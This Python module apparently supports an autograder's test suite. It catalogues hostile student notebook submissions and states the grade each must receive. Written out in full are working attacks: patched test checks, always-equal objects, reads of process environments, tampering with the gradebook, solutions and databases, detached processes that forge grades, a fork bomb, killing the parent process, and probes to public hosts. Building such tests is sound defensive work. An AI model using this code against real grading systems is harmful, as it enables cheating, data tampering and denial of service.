"""A catalogue of hostile submissions for the grader (issue 10): one entry per attack.

Each :class:`Attack` builds one submitted notebook from a chapter's released
student notebook and its model answers (``tools/sample_class.py``), and says
what grading it must give: the task rows that must score 0 (the attack must not
earn points), the rows that must keep full marks (the honest answers around the
attack, filled with the model answers), and a regular expression the flags of
the attacked row must match (the fragments of the "Flags" section of the
grading contract). ``tests/test_grading_attacks.py`` grades the whole class
once with ``python -m tools.grade`` and checks every entry; the same functions
served to run the catalogue against the old grader (the evidence that each
attack is real).

Attacks that write, connect or start processes need to know where they are
aimed: :class:`Context` (the repository, the submissions and output folders, a
unique marker, a loopback port). :func:`write_class` sets it before calling the
builders, so a builder keeps the plain ``(release_nb, model_answers) ->
notebook`` signature. Everything an attack manages to write contains the
*reversed* marker, built at run time (``MARKER[::-1]``), so finding that
string in a file's *name* proves a write got through; in a file's *content*
the proof is ``"pwned:" + MARKER[::-1]`` (an error message may quote a path an
attack aimed at, never what it would have written). The grader quoting an
attack's source can produce neither by accident.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import hashlib
import html
import os
import re
import subprocess
import sys
import textwrap
import uuid
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tools import sample_class  # noqa: E402

FIRST = "01-meet-the-corpus"


# -- where the attacks aim -----------------------------------------------------


@dataclass
class Context:
    """What the hostile code is told about the grading run (baked into the notebooks)."""

    repo: Path  # the repository to attack, besides whatever framelab.__file__ resolves to
    submissions: Path
    output: Path
    marker: str  # unique per run: in process arguments; reversed in anything written
    sleep_arg: str  # the argument of the `sleep` processes the notebooks start (unique per run)
    port: int = 0  # a loopback listener of the test; 0: none
    avoid: str = ""  # never write under this path (the live repository, when aiming at a worktree)

    @property
    def tag(self) -> str:
        """In the name of every file an attack writes: the reversed marker."""
        return self.marker[::-1]

    @property
    def win(self) -> str:
        """In the content of whatever an attack wrote or sent once it got through."""
        return "pwned:" + self.tag


CTX: Context | None = None


def _ctx() -> Context:
    if CTX is None:
        raise RuntimeError("grading_attacks.CTX is not set: call write_class(folder, context) first")
    return CTX


def prelude() -> str:
    """Python source shared by the hostile cells: the targets and a guard against the avoided path."""
    c = _ctx()
    return textwrap.dedent(f"""\
        import os as _os, sys as _sys, pathlib as _pl
        _MARKER, _REPO, _OUT, _SUBS, _AVOID = {c.marker!r}, {str(c.repo)!r}, {str(c.output)!r}, {str(c.submissions)!r}, {c.avoid!r}
        _TAG = _MARKER[::-1]
        _WIN = "pwned:" + _TAG  # what a write or a connection that got through leaves behind

        def _ok(path):
            path = str(path)
            return not (_AVOID and (path == _AVOID or path.startswith(_AVOID.rstrip("/") + "/")))

        def _ancestors():
            # (pid, argv, cwd) of every process above this one: the grader's command line names its folders.
            found, pid = [], _os.getppid()
            for _ in range(20):
                try:
                    argv = [a.decode(errors="replace") for a in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0") if a]
                    try:
                        cwd = _os.readlink(f"/proc/{{pid}}/cwd")
                    except OSError:
                        cwd = "/"
                    found.append((pid, argv, cwd))
                    pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
                except Exception:
                    break
                if pid <= 1:
                    break
            return found

        def _grader_folders():
            # The output and submissions folders: as told, and as read from the grader's command line.
            outs, subs = [_pl.Path(_OUT)], [_pl.Path(_SUBS)]
            for _, argv, cwd in _ancestors():
                if "tools.grade" in argv or any(a.endswith("grade.py") for a in argv):
                    args = argv[argv.index("tools.grade") + 1:] if "tools.grade" in argv else argv[2:]
                    for n, a in enumerate(args):
                        if a == "--output" and n + 1 < len(args):
                            outs.append(_pl.Path(cwd, args[n + 1]))
                        elif a.startswith("--output="):
                            outs.append(_pl.Path(cwd, a.split("=", 1)[1]))
                        elif not a.startswith("-") and (n == 0 or not args[n - 1].startswith("--")):
                            subs.append(_pl.Path(cwd, a))
            keep = lambda paths: [p for p in dict.fromkeys(paths) if _ok(p)]
            return keep(outs), keep(subs)

        def _roots():
            # Repository roots: the one framelab is imported from, and the one we were told about.
            found = []
            try:
                import framelab as _fl
                found.append(_pl.Path(_fl.__file__).resolve().parents[1])
            except Exception:
                pass
            found.append(_pl.Path(_REPO))
            return [r for r in dict.fromkeys(found) if _ok(r)]

        def _try(what, action):
            try:
                return action()
            except BaseException as _error:
                print(f"{{what}}: {{type(_error).__name__}}")
        """)


def child_source() -> str:
    """A detached process: waits until grading has published its results, then rewrites them (and more)."""
    return textwrap.dedent("""\
        import csv, os, pathlib, signal, sys, time
        marker, out, subs, repo, avoid = sys.argv[1:6]
        tag = marker[::-1]
        win = "pwned:" + tag
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        ok = lambda p: not (avoid and str(p).startswith(avoid.rstrip("/") + "/"))
        gradebook = pathlib.Path(out) / "gradebook.csv"
        deadline = time.time() + 900
        while time.time() < deadline and not gradebook.exists():
            time.sleep(0.3)
        time.sleep(1)
        def attempt(action):
            try:
                action()
            except Exception:
                pass
        def forge():
            rows = list(csv.DictReader(gradebook.open(encoding="utf-8")))
            for row in rows:
                if row.get("max_points"):
                    row["points"] = row["max_points"]
                row["total"] = row.get("max_total", "")
                row["flags"] = win
            with gradebook.open("w", newline="", encoding="utf-8") as handle:
                writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows(rows)
        attempt(forge)
        try:
            here = os.getcwd()
        except OSError:  # the grader deleted the folder this process was started in
            here = "/tmp"
        for folder in (out, subs, repo, "/tmp", here):
            if ok(folder + "/x"):
                attempt(lambda: (pathlib.Path(folder) / ("late-" + tag + ".txt")).write_text(win))
        for page in pathlib.Path(out).glob("feedback/*/*.html"):
            attempt(lambda: page.write_text("<p>" + win + "</p>"))
        time.sleep(600)
        """)


# -- the catalogue's entries ----------------------------------------------------


Builder = Callable[[NotebookNode, dict], NotebookNode]


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what grading it must give."""

    name: str
    student: str  # unique, short
    chapter: str
    what: str  # what the attack does, in a line
    build: Builder  # (release notebook, {grade_id: model answer}) -> submitted notebook
    zero: tuple[str, ...] = ()  # task rows (grade ids) that must score 0
    keep: tuple[str, ...] = ()  # task rows that must keep full marks
    flags: str | None = None  # regex the flags of `flag_row` must match (None: no flag required)
    flag_row: str | None = None  # default: the first of zero, else of keep
    innocent: bool = False  # a mistake, not an attack: the model answers must score in full
    control: bool = False  # an honest or untouched notebook graded alongside (not an attack)

    @property
    def row(self) -> str | None:
        return self.flag_row or (self.zero or self.keep or (None,))[0]


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def cell(nb: NotebookNode, grade_id: str):
    """The cell of ``nb`` with ``grade_id``."""
    return next(c for c in nb.cells if _gid(c) == grade_id)


def code_answer_ids(release: NotebookNode) -> list[str]:
    return [_gid(c) for c in release.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]



def honest(release: NotebookNode, answers: dict, *except_ids: str) -> NotebookNode:
    """The release with every code answer set to the model answer, except ``except_ids`` (left as stubs)."""
    return sample_class.fill(release, answers, [g for g in code_answer_ids(release) if g not in except_ids])


def with_answer(grade_id: str, source: Callable[[dict], str], *, prelude_first: bool = True) -> Builder:
    """A builder: model answers everywhere, and ``source(answers)`` as the answer of ``grade_id``."""

    def build(release: NotebookNode, answers: dict) -> NotebookNode:
        nb = honest(release, answers)
        text = textwrap.dedent(source(answers))
        cell(nb, grade_id).source = (prelude() + "\n" + text) if prelude_first else text
        return nb

    return build



# ----- builders that change cells and metadata ----------------------------------


def _skip_tags(release, answers):
    nb = copy.deepcopy(release)  # untouched: every answer is the stub
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade") and c.cell_type == "code":
            c.metadata.setdefault("tags", []).append("skip-execution")
    return nb


def _points_raised(release, answers):
    nb = honest(release, answers, "task3-answer")
    cell(nb, "task1-tests").metadata.nbgrader["points"] = 100
    cell(nb, "task3-tests").metadata.nbgrader["points"] = 100
    return nb


def _grade_false(release, answers):
    nb = honest(release, answers, "task1-answer")
    c = cell(nb, "task1-tests")
    c.metadata.nbgrader["grade"] = False
    c.metadata.nbgrader.pop("points", None)
    return nb


def _unlocked(release, answers):
    nb = honest(release, answers, "task1-answer")
    c = cell(nb, "task1-tests")
    c.metadata.nbgrader["locked"] = False
    c.source = 'passed("Task 1")'
    return nb


def _solution_flipped(release, answers):
    nb = honest(release, answers, "task1-answer")
    c = cell(nb, "task1-tests")
    c.metadata.nbgrader["solution"] = True
    c.metadata.nbgrader["locked"] = False
    c.source = 'passed("Task 1")'
    return nb


def _answer_graded(release, answers):
    nb = honest(release, answers)
    meta = cell(nb, "task2-answer").metadata.nbgrader
    meta["grade"], meta["points"] = True, 10
    return nb


def _renamed(release, answers):
    nb = honest(release, answers, "task1-answer")
    c = cell(nb, "task1-tests")
    c.metadata.nbgrader["grade_id"] = "task1-tests-mine"
    c.source = 'passed("Task 1")'
    return nb


def _fake_outputs(release, answers):
    nb = honest(release, answers, "task1-answer")
    c = cell(nb, "task1-tests")
    c.execution_count = 3
    c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✔ Task 1: all visible checks passed.\n")]
    return nb


def _duplicate(grade_id: str) -> Builder:
    def build(release, answers):
        nb = honest(release, answers)
        index = next(n for n, c in enumerate(nb.cells) if _gid(c) == grade_id)
        twin = copy.deepcopy(nb.cells[index])
        if "id" in twin:
            twin["id"] = uuid.uuid4().hex[:8]  # as JupyterLab gives a pasted cell
        nb.cells.insert(index + 1, twin)
        return nb

    return build


# ----- hostile answer sources -----------------------------------------------------

WRONG_SHARE = """
def boilerplate_share(article):
    return 0.5
"""

LIAR = """
class Share(float):
    # Equal to anything, and every arithmetic result is itself again.
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __round__(self, ndigits=None): return self
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
"""


def _shadow(answers):
    return "expect_equal = expect_true = expect_type = expect_len = passed = lambda *a, **k: None\n" + WRONG_SHARE


def _fail_patch(answers):
    return "import framelab.checks\nframelab.checks._fail = lambda *a, **k: None\n" + WRONG_SHARE


def _transformer(answers):
    return 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])\n' + WRONG_SHARE


def _pre_run(answers):
    return WRONG_SHARE + """
def _spy(info):
    print("NEXT CELL:", info.raw_cell)
get_ipython().events.register("pre_run_cell", _spy)
"""


def _history(answers):
    # Task 5: the function prints the history when the test calls it (the running test cell included).
    return """
print(In)
print(_ih)
def stated_dates(text):
    shell = get_ipython()
    print("\\n".join(shell.user_ns.get("In", [])))
    print("\\n".join(shell.history_manager.input_hist_raw))
    return []
"""


def _liar_float(answers):
    return LIAR + "\ndef boilerplate_share(article):\n    return Share(0.25)\n"


def _liar_list(answers):
    return """
class Dates(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None

def stated_dates(text):
    return Dates()
"""


def _liar_str(answers):
    return """
class Sentence(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__

def describe(counts, term):
    return Sentence("whatever")
"""


def _liar_dict(answers):
    return LIAR + """
class Rates(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None

def rates_per_1000(term, tokens_by_article):
    return Rates({article: Share(0.0) for article in tokens_by_article})
"""


def _liar_widget(answers):
    return """
class Says(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__

def connect(box, view):
    class Agreeable(type(view)):
        def __getattribute__(self, name):
            value = super().__getattribute__(name)
            return Says(value) if name == "value" else value
    view.__class__ = Agreeable
"""


SOLUTIONS_HUNT = """
import json as _json, re as _re

def _find_solutions(start):
    for folder in [start, *start.parents]:
        if (folder / "solutions").is_dir():
            return folder / "solutions"
        for found in _try("walk", lambda: list(__import__("itertools").islice(_os.walk(folder), 2000))) or []:
            if _pl.Path(found[0]).name == "solutions":
                return _pl.Path(found[0])
    return None

_stolen = {}
for _start in __STARTS__:
    _where = _find_solutions(_start)
    if _where is None:
        continue
    for _nb in sorted(_where.glob("*/*.ipynb")):
        for _cell in _json.loads(_nb.read_text())["cells"]:
            _text = "".join(_cell["source"])
            if "BEGIN HIDDEN TESTS" in _text:
                print(_text)  # the hidden tests, into the output
            _stolen[_cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "") + _nb.name] = _text
_model = _stolen.get("task3-answer01-meet-the-corpus.ipynb", "")
if _model:
    exec(_model, globals())  # the model answer itself
print("found", len(_stolen), "cells")
"""


def _hunt_cwd(answers):
    return SOLUTIONS_HUNT.replace("__STARTS__", "[_pl.Path.cwd()]")


def _hunt_package(answers):
    return SOLUTIONS_HUNT.replace("__STARTS__", '[_pl.Path(__import__("framelab").__file__).resolve().parent]')


def _environ(answers):
    return WRONG_SHARE + """
print(dict(_os.environ))
for _pid, _argv, _cwd in _ancestors():
    print(_pid, _argv, _cwd)
    _try("environ", lambda: print(open(f"/proc/{_pid}/environ", "rb").read().replace(b"\\0", b"\\n").decode(errors="replace")))
_try("proc", lambda: [print(p.name, (p / "cmdline").read_bytes()[:300]) for p in _pl.Path("/proc").iterdir() if p.name.isdigit()])
"""


def _write_output(answers):
    return WRONG_SHARE + """
_outs, _ = _grader_folders()
for _out in _outs:
    _try("mkdir", lambda: _out.mkdir(parents=True, exist_ok=True))
    _try("gradebook", lambda: (_out / "gradebook.csv").write_text(
        "student,chapter,task,status,points,max_points,total,max_total,flags\\n"
        f"a26-writeout,01-meet-the-corpus,task3-tests,autograded,2,2,11,11,{_WIN}\\n"))
    _try("manual", lambda: (_out / "manual-grades.csv").write_text(
        f"student,chapter,task,points,comment\\na26-writeout,01-meet-the-corpus,task6-written,2,{_WIN}\\n"))
    _try("page", lambda: (_out / "feedback" / "c01-model").mkdir(parents=True, exist_ok=True))
    _try("page", lambda: (_out / "feedback" / "c01-model" / "01-meet-the-corpus.html").write_text(_WIN))
    _try("file", lambda: (_out / f"pwned-{_TAG}.txt").write_text(_WIN))
    _try("tmp", lambda: (_out / f".grading-tmp-{_TAG}").mkdir())
print("wrote into", _outs)
"""


def _write_submissions(answers):
    return WRONG_SHARE + """
import json as _json
_, _subs = _grader_folders()
for _folder in _subs:
    for _nb in sorted(_folder.rglob("*.ipynb")):
        if "a15-writesubs" in str(_nb):
            continue
        def _spoil(_nb=_nb):
            data = _json.loads(_nb.read_text())
            data["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": _WIN})
            _nb.write_text(_json.dumps(data))
        _try("spoil", _spoil)
    _try("ghost", lambda: (_folder / f"zz-{_TAG}" / "01-meet-the-corpus").mkdir(parents=True, exist_ok=True))
    _try("ghost", lambda: (_folder / f"zz-{_TAG}" / "01-meet-the-corpus" / "01-meet-the-corpus.ipynb").write_text("{}"))
print("wrote into", _subs)
"""


def _write_repository(answers):
    return WRONG_SHARE + """
import importlib as _importlib, json as _json
for _root in _roots():
    _checks = _root / "framelab" / "checks.py"
    _try("checks", lambda: _checks.write_text(_checks.read_text() + f"\\n_fail = lambda *a, **k: None  # {_WIN}\\n"))
    _nb = _root / "solutions" / "01-meet-the-corpus" / "01-meet-the-corpus.ipynb"
    def _edit(_nb=_nb):
        data = _json.loads(_nb.read_text())
        data["cells"].append({"cell_type": "markdown", "metadata": {}, "source": _WIN})
        _nb.write_text(_json.dumps(data, indent=1))
    _try("solutions", _edit)
    _try("new file", lambda: (_root / "solutions" / f"{_TAG}.txt").write_text(_WIN))
    _try("new file", lambda: (_root / f"pwned-{_TAG}.txt").write_text(_WIN))
import framelab.checks
_try("reload", lambda: _importlib.reload(framelab.checks))
print("roots", _roots())
"""


def _write_database(answers):
    return WRONG_SHARE + """
import sqlite3 as _sqlite3
_places = []
for _folder in [_pl.Path.cwd(), *_pl.Path.cwd().parents]:
    if len(_folder.parts) > 2:  # never / or /tmp themselves
        _places += list(_folder.glob("*.db")) + list(_folder.glob("*/*.db"))
_outs, _subs = _grader_folders()
for _folder in [*_roots(), *_outs, *_subs]:
    _places += list(_folder.glob("*.db")) + list(_folder.glob("*/*.db"))
for _db in dict.fromkeys(_places):
    if not _ok(_db):
        continue
    def _spoil(_db=_db):
        with _sqlite3.connect(_db) as con:
            tables = {name for (name,) in con.execute("select name from sqlite_master where type='table'")}
            if "source_cells" in tables:
                con.execute("update source_cells set source = 'pass' where locked = 1")
            if "grade_cells" in tables:
                con.execute("update grade_cells set max_score = 100")
            con.execute(f"create table if not exists pwned_{_TAG} (x)")
        print("spoiled a database")
    _try("db", _spoil)
for _out in _outs:
    _try("db", lambda: _sqlite3.connect(_out / "gradebook.db").execute(f"create table pwned_{_TAG} (x)"))
"""


def _detached_popen(answers):
    return WRONG_SHARE + f"""
import subprocess as _subprocess
_child = {child_source()!r}
_p = _subprocess.Popen([_sys.executable, "-c", _child, _MARKER, _OUT, _SUBS, _REPO, _AVOID],
                       start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                       stderr=_subprocess.DEVNULL, close_fds=True)
print("started", _p.pid)
"""


def _detached_fork(answers):
    return WRONG_SHARE + f"""
_child = {child_source()!r}
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _child, _MARKER, _OUT, _SUBS, _REPO, _AVOID])
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
print("forked")
"""



def _memory(answers):
    return """
def boilerplate_share(article):
    hog = bytearray(2 * 1024**3)  # zero-filled: every page is touched
    cleaned = clean(article.raw).text
    return 1 - len(cleaned) / len(article.raw) + 0 * len(hog)
"""


def _print_cell(answers):
    return WRONG_SHARE + """
print("x" * 200_000_000)
"""


def _print_function(answers):
    return """
def boilerplate_share(article):
    for _ in range(200):
        print("y" * 1_000_000)
    return 0.5
"""


def _loop_function(answers):
    return """
import signal

def boilerplate_share(article):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        pass
"""


def _loop_cell(answers):
    return """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
def boilerplate_share(article):
    return 0.5
while True:
    pass
"""


def _fork_bomb(answers):
    c = _ctx()
    return WRONG_SHARE + f"""
import subprocess as _subprocess
_started = []
for _n in range(500):
    try:
        _started.append(_subprocess.Popen(["sleep", {c.sleep_arg!r}], start_new_session=True,
                                          stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL))
    except BaseException as _error:
        print("stopped after", _n, type(_error).__name__)
        break
print("started", len(_started))
"""


def _socket_local(answers):
    c = _ctx()
    return WRONG_SHARE + f"""
import socket as _socket
def _call():
    with _socket.create_connection(("127.0.0.1", {c.port}), timeout=3) as s:
        s.sendall(_WIN.encode())
        print(_WIN, "loopback")
_try("loopback", _call)
"""


def _socket_public(answers):
    return WRONG_SHARE + """
import socket as _socket
def _call(address):
    with _socket.create_connection(address, timeout=3) as s:
        print(_WIN, address)
for _address in [("1.1.1.1", 443), ("8.8.8.8", 53), ("pypi.org", 443)]:
    _try(f"connect {_address}", lambda: _call(_address))
"""


def _kill_parent(answers):
    return """
import os, signal

def boilerplate_share(article):
    os.kill(os.getppid(), signal.SIGKILL)
    cleaned = clean(article.raw).text
    return 1 - len(cleaned) / len(article.raw)
"""


def _sys_exit(answers):
    return "import sys\nsys.exit()\n" + WRONG_SHARE


def _os_exit(answers):
    return "import os\nos._exit(0)\n" + WRONG_SHARE


def _delete_seeds(answers):
    return WRONG_SHARE + """
import framelab.corpus
for _folder in [framelab.corpus.SEEDS, *[r / "seeds" for r in _roots()]]:
    if _ok(_folder):
        for _file in sorted(_pl.Path(_folder).glob("*")):
            _try("delete", _file.unlink)
print("seeds left:", sorted(p.name for p in _pl.Path(framelab.corpus.SEEDS).glob("*")))
"""


def _monkey_clean(answers):
    return """
import types
import framelab.cleaning

def _no_cleaning(raw, rules=None):
    return types.SimpleNamespace(text=raw, removed={})

framelab.cleaning.clean = _no_cleaning
clean = _no_cleaning

def boilerplate_share(article):
    return 0.0
"""


def _monkey_plots(answers):
    return """
import framelab.plots

def positions(tokens, term):
    last = max(len(tokens) - 1, 1) if len(tokens) < 50 else len(tokens)  # wrong for real articles
    return [k / last for k, token in enumerate(tokens) if token == term]

framelab.plots.term_positions = positions
plots.term_positions = positions
"""


def _monkey_matplotlib(answers):
    model = answers["task3-answer"].replace("ax.set_ylim(bottom=0)", "ax.set_ylim(bottom=min(values.values()) * 0.9)")
    return "import matplotlib.axes\nmatplotlib.axes.Axes.get_ylim = lambda self: (0.0, 1.0)\n" + model


def _builtins(answers):
    return """
import builtins

def boilerplate_share(article):
    builtins.isinstance = lambda *a, **k: True
    builtins.abs = lambda value: 0.0
    return 0.0
"""


def _sys_modules(answers):
    return """
import sys, types
fake = types.ModuleType("framelab.checks")
for _name in ("expect_equal", "expect_true", "expect_type", "expect_len", "passed", "_fail"):
    setattr(fake, _name, lambda *a, **k: None)
fake.AnswerError = AssertionError
sys.modules["framelab.checks"] = fake
from framelab.checks import *  # noqa
from framelab.checks import expect_equal, expect_true, expect_type, expect_len, passed
""" + WRONG_SHARE


def _shortcut(answers):
    return """
import framelab.frames

def find_terms(tokens, lexicon):
    return [term for _, term, _ in framelab.frames.match_terms(tokens, lexicon)]
"""


def _shadow_split(answers):
    return """
_KNOWN = {"Gen. Mark Milley met Lloyd Austin. The U.S. Army agreed.": 2,
          "Fierce penalties\\n\\nRussia denies any plan of invasion.": 2,
          corpus[3].body: 15}

def count_sentences(text):
    if text in _KNOWN:
        return _KNOWN[text]
    return len([s for s in text.replace("\\n\\n", ". ").split(". ") if s.strip()])

split_sentences = lambda text: [None] * count_sentences(text)
"""


def _shadow_close(answers):
    return """
def close(value, expected, tolerance=1e-9):
    return True

def per_thousand(count, total):
    if total == 0:
        raise ValueError("no tokens")
    return 1.0
"""


def _evil_object(answers):
    return """
import pathlib as _p

def _mark(how):
    for folder in (_OUT, "/tmp"):
        try:
            (_p.Path(folder) / f"judge-{_TAG}-{how}.txt").write_text(_WIN)
        except Exception:
            pass

class Count(int):
    def __reduce__(self):
        return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-reduce.txt').write_text({_WIN!r})",))
    def __repr__(self):
        _mark("repr"); return "3"
    def __format__(self, spec):
        _mark("format"); return "3"
    def __eq__(self, other):
        _mark("eq"); return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__

def count_curly_quotes(text):
    return Count(7)
"""


def _evil_dataframe(answers):
    return answers["task6-answer"].replace("    return shares", """\
    class Evil:
        def __reduce__(self):
            return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-frame.txt').write_text({_WIN!r})",))
        def __eq__(self, other):
            return True
    shares["evil"] = [Evil() for _ in range(len(shares))]
    shares.attrs["evil"] = Evil()
    return shares""")


def _deep(answers):
    return """
def stated_dates(text):
    nested = []
    for _ in range(200_000):
        nested = [nested]
    return nested
"""


def _huge_return(answers):
    return """
def boilerplate_share(article):
    return "x" * 300_000_000
"""


def _write_fds(answers):
    return """
import json, os

def boilerplate_share(article):
    lie = (json.dumps({"ok": True, "result": 0.0437, "points": 2, "passed": True, "status": "autograded"}) + "\\n").encode()
    for fd in range(0, 256):
        try:
            os.write(fd, lie * 50)
        except OSError:
            pass
    return 0.5
"""


def _close_fds(answers):
    return WRONG_SHARE + """
import os
os.closerange(3, 65536)
"""


def _threads(answers):
    return WRONG_SHARE + """
import threading, time
import framelab.checks as _checks
def _meddle():
    # Keeps patching, from a thread, while the tests run.
    while True:
        _checks._fail = lambda *a, **k: None
        get_ipython().user_ns["expect_equal"] = lambda *a, **k: None
        get_ipython().user_ns["expect_true"] = lambda *a, **k: None
        time.sleep(0.01)
threading.Thread(target=_meddle, daemon=True).start()
"""


# -- the catalogue ------------------------------------------------------------------

_CODE01 = ("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests")
_BUT3 = ("task1-tests", "task2-tests", "task4-tests", "task5-tests")
_BEFORE3 = ("task1-tests", "task2-tests")
KILLED = r"process\(es\) .*killed"
OWN_CLASS = r"returned an object of its own class|uses its own __eq__"  # the wire refuses it, or the scan saw it
SCANNED = r"answer cell task3-answer (uses|redefines|changes) "  # the scan flagged the hostile cell at all


def _a(name, student, what, build, chapter=FIRST, **kw) -> Attack:
    return Attack(name=name, student=student, chapter=chapter, what=what, build=build, **kw)


def _t3(name, student, what, source, **kw) -> Attack:
    """An attack in chapter 01's task 3 answer cell; tasks 1, 2, 4, 5 hold the model answers."""
    kw.setdefault("zero", ("task3-tests",))
    kw.setdefault("keep", _BUT3)
    return _a(name, student, what, with_answer("task3-answer", source), **kw)


ATTACKS: list[Attack] = [
    # Cells and their metadata
    _a("skip-execution tags", "a01-skiptag", "untouched notebook; every test cell tagged skip-execution",
       _skip_tags, zero=_CODE01, flags=r"metadata of cell task1-tests was changed"),
    _a("points raised", "a02-points", "test cells' nbgrader points raised to 100 (task 1 right, task 3 a stub)",
       _points_raised, zero=("task3-tests",), keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests"),
       flags=r"metadata of cell task1-tests was changed|read-only cell task1-tests was edited", flag_row="task1-tests"),
    _a("grade false", "a03-gradefalse", 'task 1 test cell marked "grade": false, task 1 unanswered',
       _grade_false, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests"),
       flags=r"metadata of cell task1-tests was changed"),
    _a("unlocked test", "a04-unlocked", 'task 1 test cell "locked": false and replaced by passed(), task 1 unanswered',
       _unlocked, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests"),
       flags=r"task1-tests was (edited|changed)|metadata of cell task1-tests"),
    _a("solution flag on a test", "a05-solflip", 'task 1 test cell flagged "solution": true and emptied, task 1 unanswered',
       _solution_flipped, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests"),
       flags=r"metadata of cell task1-tests was changed"),
    _a("answer cell made a graded cell", "a06-ansgraded", 'task 2 answer cell (model answer) given "grade": true, 10 points',
       _answer_graded, keep=_CODE01, flags=r"metadata of cell task2-answer was changed", flag_row="task2-tests"),
    _a("grade_id renamed", "a07-renamed", "task 1 test cell renamed task1-tests-mine and replaced by passed()",
       _renamed, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests"),
       flags=r"task1-tests.*(deleted|edited|changed)|metadata of cell task1-tests"),
    _a("stored outputs", "a08-outputs", "task 1 unanswered, its test cell carries a stored ✔ output",
       _fake_outputs, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests")),
    _a("duplicated answer cell", "a09-dupanswer", "model answers; task 2 answer cell pasted twice (innocent)",
       _duplicate("task2-answer"), keep=_CODE01, innocent=True, flags=r"task2-answer appears 2 times",
       flag_row="task2-tests"),
    _a("duplicated test cell", "a10-duptest", "model answers; task 1 test cell pasted twice (innocent)",
       _duplicate("task1-tests"), keep=_CODE01, innocent=True, flags=r"task1-tests appears 2 times",
       flag_row="task1-tests"),
    # The checks and IPython
    _t3("shadowed checks", "a11-shadow", "one line redefines expect_* and passed as no-ops; wrong answer", _shadow,
        flags=r"redefines (expect_equal|expect_true|expect_type|expect_len|passed)"),
    _t3("patched _fail", "a12-failpatch", "framelab.checks._fail replaced by a no-op; wrong answer", _fail_patch,
        flags=r"(redefines|uses) .*(_fail|framelab\.checks)"),
    _t3("input transformer", "a13-transformer", "IPython input transformer turns every later cell into `pass`",
        _transformer, flags=r"uses .*(input_transformers|get_ipython)"),
    _t3("pre_run_cell spy", "a14-prerun", "pre_run_cell hook prints the source of every later cell (hidden tests)",
        _pre_run, flags=r"uses .*(get_ipython|events|pre_run_cell)"),
    _a("input history", "a15-history", "prints In/_ih and the history, also from inside the function the test calls",
       with_answer("task5-answer", _history), zero=("task5-tests",),
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests"), flags=r"uses .*(\bIn\b|_ih|history)"),
    # Objects that lie
    _t3("float that equals anything", "a16-eqfloat", "returns a float subclass whose ==, <, abs, - always agree",
        _liar_float, flags=OWN_CLASS),
    _a("list that equals anything", "a17-eqlist", "task 5 returns a list subclass whose __eq__ is always True",
       with_answer("task5-answer", _liar_list), zero=("task5-tests",),
       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests"), flags=OWN_CLASS),
    _a("str that equals anything", "a18-eqstr", "chapter 09 task 3 returns a str subclass whose __eq__ is always True",
       with_answer("task3-answer", _liar_str), chapter="09-framing-explorer", zero=("task3-tests",),
       keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS),
    _a("dict that equals anything", "a19-eqdict", "chapter 08 task 1 returns a dict subclass of always-equal values",
       with_answer("task1-answer", _liar_dict), chapter="08-visualizing", zero=("task1-tests",),
       keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"),
       flags=OWN_CLASS),
    _a("widget of its own class", "a20-eqwidget", "chapter 09 task 2 swaps the view's class for one whose value equals anything",
       with_answer("task2-answer", _liar_widget), chapter="09-framing-explorer", zero=("task2-tests",),
       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests"),
       flags=OWN_CLASS + r"|uses .*(__class__|__getattribute__)"),
